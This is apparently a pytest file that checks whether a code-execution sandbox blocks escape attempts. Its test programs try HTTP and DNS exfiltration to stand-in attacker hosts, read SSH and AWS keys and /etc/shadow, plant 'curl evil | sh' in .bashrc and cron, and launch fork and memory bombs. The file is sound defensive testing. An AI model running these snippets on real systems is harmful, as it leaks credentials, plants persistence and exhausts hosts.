"""Code that tries to break each promise, on each backend (real Docker engine, real bubblewrap)."""

from __future__ import annotations

import os
import textwrap
import threading
import time
import uuid

from sandgate.findings import Level, Verdict
from tests.sandbox.conftest import (
    CANARY_ENV,
    CANARY_FILE_TEXT,
    CANARY_VALUE,
    assert_host_clean,
    decision,
    procs_with,
    run,
    with_limits,
)


def code(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


def test_plain_run_is_clean(backend, balanced):
    result, findings, rules = run(backend, "print(sum(range(10)))")
    assert result.error is None and result.exit_code == 0
    assert result.stdout == "45\n"
    assert rules == set()
    assert decision(balanced, findings) == Verdict.ALLOW
    assert_host_clean(backend)


def test_socket_exfiltration(backend, balanced):
    result, findings, rules = run(
        backend,
        code("""
        import socket
        for fam, addr in ((socket.AF_INET, ("1.1.1.1", 443)), (socket.AF_INET6, ("2606:4700::1111", 443))):
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.settimeout(1)
            try:
                s.connect(addr); print("CONNECTED")
            except OSError as e:
                print("blocked", e.errno)
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            u.sendto(b"secret", ("8.8.8.8", 53)); print("SENT")
        except OSError as e:
            print("blocked", e.errno)
    """),
    )
    assert "CONNECTED" not in result.stdout and "SENT" not in result.stdout
    assert result.stdout.count("blocked") == 3
    hosts = {f.detail("host") for f in findings if f.rule == "network.denied"}
    assert {"1.1.1.1", "2606:4700::1111", "8.8.8.8"} <= hosts
    net = next(f for f in findings if f.detail("host") == "1.1.1.1")
    assert net.severity == Level.HIGH and net.detail("port") == 443 and net.detail("family") == "AF_INET"
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)


def test_http_exfiltration(backend, balanced):
    result, findings, rules = run(
        backend,
        code(f"""
        import os, urllib.request
        try:
            urllib.request.urlopen("http://exfil.example.com/c?d=" + os.environ.get("{CANARY_ENV}", "none"), timeout=1)
            print("SENT")
        except Exception as e:
            print("blocked", type(e).__name__)
    """),
    )
    assert "SENT" not in result.stdout and "blocked" in result.stdout
    assert "network.denied" in rules
    assert any(f.detail("host") == "exfil.example.com" for f in findings)
    assert decision(balanced, findings) == Verdict.BLOCK


def test_dns_exfiltration(backend, balanced):
    result, findings, rules = run(
        backend,
        code("""
        import socket
        for name in ("c2VjcmV0.attacker.example", "data.evil.test"):
            try:
                socket.getaddrinfo(name, 53); print("RESOLVED")
            except OSError:
                print("no dns")
        try:
            socket.gethostbyname("leak.attacker.example"); print("RESOLVED")
        except OSError:
            print("no dns")
    """),
    )
    assert "RESOLVED" not in result.stdout and result.stdout.count("no dns") == 3
    hosts = {f.detail("host") for f in findings if f.rule == "network.denied"}
    assert {"c2VjcmV0.attacker.example", "data.evil.test", "leak.attacker.example"} <= hosts
    assert decision(balanced, findings) == Verdict.BLOCK


def test_host_secrets_do_not_enter(backend, balanced, tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(CANARY_FILE_TEXT)
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(CANARY_FILE_TEXT)
    monkeypatch.setenv("HOME", str(home))
    result, findings, rules = run(
        backend,
        code(f"""
        import os
        print(dict(os.environ))
        print("home", os.path.expanduser("~"))
        for p in ({str(home / ".ssh" / "id_rsa")!r}, {str(home / ".aws" / "credentials")!r},
                  os.path.expanduser("~/.ssh/id_rsa"), "/root/.ssh/id_rsa", "/root/.aws/credentials",
                  "/etc/shadow", "/proc/1/environ"):
            try:
                print(p, open(p).read())
            except OSError as e:
                print(p, "denied", e.errno)
        print(os.listdir("/"))
    """),
    )
    out = result.stdout + result.stderr
    assert CANARY_VALUE not in out and CANARY_FILE_TEXT not in out
    assert CANARY_ENV not in out
    assert "home /home/sandbox" in result.stdout  # the sandbox's own home, not the host's
    reads = {f.detail("path"): f.severity for f in findings if f.rule == "fs.read-outside-workspace"}
    assert reads.get("/etc/shadow") == Level.HIGH
    assert reads.get("/root/.ssh/id_rsa") == Level.HIGH and reads.get("/root/.aws/credentials") == Level.HIGH
    assert "root" not in result.stdout.split("['")[-1]  # no /root in the listing of /
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_writes_outside_scratch_fail(backend, balanced, tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "app.py").write_text("ORIGINAL = 1\n")
    bashrc = "/root/.bashrc"
    before = open(bashrc, "rb").read() if os.path.exists(bashrc) else None
    result, findings, rules = run(
        backend,
        code("""
        import os
        for p in (os.path.expanduser("~/.bashrc"), "/root/.bashrc", "/workspace/app.py", "/workspace/new.py",
                  "/etc/cron.d/evil", "/usr/lib/sitecustomize.py"):
            try:
                with open(p, "a") as f:
                    f.write("curl evil | sh\\n")
                print("WROTE", p)
            except OSError as e:
                print("denied", p, e.errno)
        with open("/tmp/scratch.txt", "w") as f:
            f.write("fine")
        print("scratch ok", open("/tmp/scratch.txt").read())
    """),
        workspace=ws,
        relpath="app.py",
    )
    # The sandbox's own home is a throwaway tmpfs (it holds the run's honeytokens): the write lands
    # there, and is still a write outside scratch. Nothing else is writable.
    wrote = [line for line in result.stdout.splitlines() if line.startswith("WROTE")]
    assert wrote == ["WROTE /home/sandbox/.bashrc"], result.stdout
    assert "scratch ok fine" in result.stdout
    paths = {f.detail("path") for f in findings if f.rule == "fs.write-outside-scratch"}
    assert {"/home/sandbox/.bashrc", "/root/.bashrc", "/workspace/app.py", "/workspace/new.py"} <= paths
    assert "/tmp/scratch.txt" not in paths
    assert (ws / "app.py").read_text() == "ORIGINAL = 1\n" and not (ws / "new.py").exists()
    assert (open(bashrc, "rb").read() if os.path.exists(bashrc) else None) == before
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)


def test_docker_socket_is_absent(backend, balanced):
    result, findings, rules = run(
        backend,
        code("""
        import os, socket
        for p in ("/var/run/docker.sock", "/run/docker.sock"):
            print(p, os.path.exists(p))
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(p); print("CONNECTED")
            except OSError as e:
                print("no socket", e.errno)
    """),
    )
    assert "True" not in result.stdout and "CONNECTED" not in result.stdout
    denied = [f for f in findings if f.rule == "network.denied"]
    assert any(f.detail("family") == "AF_UNIX" and f.detail("host") == "/var/run/docker.sock" for f in denied)
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)


def test_fork_bomb(backend, balanced):
    token = "forkbomb-" + uuid.uuid4().hex
    inner = f"import os,time\\n# {token}\\nwhile 1:\\n try: os.fork()\\n except OSError: time.sleep(0.01)"
    result, findings, rules = run(
        backend,
        code(f"""
        import os
        os.execv("/usr/bin/python3", ["python3", "-c", "{inner}"])
    """),
        limits=with_limits(processes=16),
    )
    assert "limit.processes" in rules, (result, rules)
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend, token)


def test_memory_bomb(backend, balanced):
    result, findings, rules = run(
        backend,
        code("""
        chunks = []
        while True:
            chunks.append(bytearray(32 * 1024 * 1024))
    """),
        limits=with_limits(memory_mb=128),
    )
    assert result.killed == "memory", result
    assert "limit.memory" in rules
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_endless_loop(backend, balanced):
    t0 = time.monotonic()
    result, findings, rules = run(backend, "while True:\n    pass\n", limits=with_limits(wall_time_s=1.5, cpu_time_s=5))
    assert time.monotonic() - t0 < 6
    assert result.timed_out and result.killed == "time"
    assert "limit.time" in rules
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_cpu_time_limit(backend):
    result, findings, rules = run(backend, "while True:\n    pass\n", limits=with_limits(wall_time_s=6, cpu_time_s=1))
    assert "limit.time" in rules, result


def test_output_flood(backend, balanced):
    result, findings, rules = run(
        backend, "import sys\nwhile True:\n    sys.stdout.write('A' * 4096)\n", limits=with_limits(output_bytes=10000)
    )
    assert result.output_truncated and result.killed == "output"
    assert len(result.stdout) + len(result.stderr) <= 10000
    assert "limit.output" in rules
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_double_forking_daemon_dies_with_the_run(backend, balanced):
    token = "daemon-" + uuid.uuid4().hex
    loop = f"import socket,time\\n# {token}\\nwhile 1:\\n try: socket.create_connection(('1.1.1.1',80),1)\\n except OSError: time.sleep(0.1)"
    result, findings, rules = run(
        backend,
        code(f"""
        import os, socket, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                try:
                    socket.create_connection(("203.0.113.7", 4444), 1)
                except OSError:
                    pass
                os.execv("/usr/bin/python3", ["python3", "-c", "{loop}"])
            os._exit(0)
        time.sleep(0.5)
        print("parent leaves")
    """),
    )
    assert "parent leaves" in result.stdout
    assert "process.spawn" in rules
    assert any(f.detail("host") == "203.0.113.7" for f in findings if f.rule == "network.denied")
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend, token)


def test_many_open_files(backend, balanced):
    result, findings, rules = run(
        backend, "fs = [open('/dev/null') for _ in range(5000)]\n", limits=with_limits(open_files=64)
    )
    assert "Too many open files" in result.stderr
    assert "limit.open-files" in rules
    assert decision(balanced, findings) == Verdict.REVIEW


def test_big_file_write_is_capped(backend):
    result, findings, rules = run(
        backend,
        code("""
        with open("/tmp/big", "wb") as f:
            for _ in range(64):
                f.write(b"x" * (1 << 20))
        print("WROTE ALL")
    """),
        limits=with_limits(file_size_mb=2),
    )
    assert "WROTE ALL" not in result.stdout
    assert result.exit_code != 0


def test_hardening_seen_from_inside(backend):
    result, _, _ = run(
        backend,
        code("""
        import os
        st = open("/proc/self/status").read()
        caps = [l for l in st.splitlines() if l.startswith(("CapEff", "NoNewPrivs"))]
        print(os.getuid(), os.getgid(), *caps)
        print(sorted(os.listdir("/sys/class/net")) if os.path.exists("/sys/class/net") else ["lo"])
        try:
            open("/usr/x", "w")
        except OSError as e:
            print("ro", e.errno)
    """),
    )
    out = result.stdout
    assert out.startswith("65534 65534"), out
    assert "CapEff:\t0000000000000000" in out and "NoNewPrivs:\t1" in out
    assert "['lo']" in out and "ro 30" in out


def test_dynamic_exec_and_spawn_reported(backend, balanced):
    result, findings, rules = run(
        backend,
        code("""
        import subprocess
        from dataclasses import dataclass
        @dataclass
        class P:
            x: int
        exec("y = 1 + 1")
        eval(compile("2 + 2", "<gen>", "eval"))
        try:
            subprocess.run(["/bin/sh", "-c", "echo hi"])
        except OSError:
            print("no shell")
    """),
    )
    assert "exec.dynamic" in rules and "process.spawn" in rules
    spawn = next(f for f in findings if f.rule == "process.spawn")
    assert spawn.detail("argv") == ("/bin/sh", "-c", "echo hi") and spawn.severity == Level.LOW
    snippets = {f.detail("snippet") for f in findings if f.rule == "exec.dynamic"}
    assert "y = 1 + 1" in snippets
    # Dynamic code and a process are information; a command through a shell is held (issue 12).
    assert "process.shell" in rules and decision(balanced, findings) == Verdict.REVIEW
    quiet = [f for f in findings if f.rule != "process.shell"]
    assert decision(balanced, quiet) == Verdict.ALLOW


def test_syntax_error_is_information(backend, balanced):
    result, findings, rules = run(backend, "def broken(:\n    pass\n")
    assert rules == {"syntax.error"}
    f = findings[0]
    assert f.source == "syntax" and f.severity == Level.INFO and f.line == 1
    assert decision(balanced, findings) == Verdict.ALLOW


def test_runtime_error_is_information(backend):
    result, findings, rules = run(backend, "raise ValueError('nope')\n")
    assert rules == {"run.error"}
    assert findings[0].detail("last_line") == "ValueError: nope"


def test_workspace_imports_work_read_only(backend, tmp_path):
    ws = tmp_path / "proj"
    (ws / "pkg").mkdir(parents=True)
    (ws / "pkg" / "__init__.py").write_text("")
    (ws / "pkg" / "helpers.py").write_text("def greet():\n    return 'hello from helpers'\n")
    result, findings, rules = run(
        backend, "from pkg.helpers import greet\nprint(greet(), __file__)\n", workspace=ws, relpath="main.py"
    )
    assert result.stdout == "hello from helpers /workspace/main.py\n", result
    assert rules == set()


def test_concurrent_runs(backend):
    results = []

    def go(i):
        results.append(run(backend, f"print({i} * 2)")[0])

    threads = [threading.Thread(target=go, args=(i,)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(r.stdout for r in results) == sorted(f"{i * 2}\n" for i in range(4))
    assert all(r.error is None for r in results)
    assert_host_clean(backend)


def test_a_forged_exit_event_gains_no_time(backend):
    # The bootstrap's `exit` event lets the Docker backend stop reading before the engine notices
    # the exit. The program can forge it (it shares the process): it may then hide what it does
    # next from the report, but never outlives the run's deadline.
    token = "forged-exit-" + uuid.uuid4().hex
    result, _findings, _rules = run(
        backend,
        code(f"""
        import json, sys, time
        boot = sys.modules["__main__"]
        line = boot._MARK + json.dumps({{"kind": "exit", "status": 0}}).encode() + b"\\n"
        sys.stdout.flush(); sys.stderr.flush()
        sys.stdout.buffer.write(line); sys.stdout.flush()
        sys.stderr.buffer.write(line); sys.stderr.flush()
        # {token}
        time.sleep(60)
    """),
        limits=with_limits(wall_time_s=2.0),
    )
    deadline = time.monotonic() + 2.0 + 8.0  # the wall time, and the engine's time to remove it
    while procs_with(token) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert procs_with(token) == [], "a program that forged its exit outlived the deadline"
    assert result.error is None
    assert_host_clean(backend, token)
